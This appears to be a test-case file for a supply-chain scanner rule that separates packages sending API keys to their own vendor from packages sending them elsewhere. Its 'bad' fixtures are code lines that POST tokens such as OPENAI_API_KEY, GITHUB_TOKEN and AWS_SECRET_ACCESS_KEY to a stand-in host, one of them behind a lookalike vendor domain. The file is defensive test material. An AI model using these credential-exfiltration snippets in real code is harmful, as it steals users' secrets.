import { defineCases } from '../../src/rule.ts';

const send = (url: string, key: string, more = '') =>
  `exports.ask = (q) => fetch(${url}, { method: 'POST', headers: { authorization: 'Bearer ' + ${key} }, body: q${more} });`;

export default defineCases({
  bad: [
    {
      name: 'a key of Notion to another host',
      code: send("'https://notes.collect.example/v1'", 'process.env.NOTION_TOKEN'),
    },
    {
      name: 'with the vendor’s name in front of another domain',
      code: send("'https://api.openai.com.collect.example/v1'", 'process.env.OPENAI_API_KEY'),
      manifest: { name: 'ask' },
    },
    {
      name: 'read by its name through a function, when it is loaded',
      code: "const key = (name) => process.env[name];\nconst https = require('https');\nhttps.request({ hostname: 'collect.example', method: 'POST', headers: { k: key('GITHUB_TOKEN') } }).end();",
    },
    {
      name: 'in the address, to an address without a name',
      code: "fetch('http://203.0.113.9.collect.example/?k=' + process.env.AWS_SECRET_ACCESS_KEY)",
    },
  ],
  ok: [
    { name: 'to its vendor', code: send("'https://api.notion.com/v1/search'", 'process.env.NOTION_TOKEN') },
    {
      name: 'to where its user says, or to its vendor',
      code: `const base = process.env.OPENAI_BASE_URL ?? 'https://api.openai.com';\n${send("base + '/v1/responses'", 'process.env.OPENAI_API_KEY')}`,
    },
    {
      name: 'to a service that speaks the same protocol, with a page of its own in a header',
      code: "exports.ask = (q) => fetch('https://openrouter.ai/api/v1/chat/completions', { headers: { 'HTTP-Referer': 'https://ask.example', authorization: process.env.OPENAI_API_KEY }, body: q })",
    },
    {
      name: 'to a gateway of whoever wrote the package',
      manifest: { name: '@harbour/gateway' },
      code: send("'https://llm.harbour.example/v1'", 'process.env.ANTHROPIC_API_KEY'),
    },
    { name: 'to a server on this machine', code: send("'http://localhost:4000/v1'", 'process.env.OPENAI_API_KEY') },
    {
      name: 'a key whose name says nothing of a vendor',
      code: send("'https://api.weather.example/v1'", 'process.env.API_KEY'),
    },
    {
      name: 'two keys, each to its vendor',
      code: `${send("'https://api.notion.com/v1'", 'process.env.NOTION_TOKEN')}\n${send("'https://slack.com/api/chat.postMessage'", 'process.env.SLACK_BOT_TOKEN').replace('ask', 'tell')}`,
    },
  ],
});
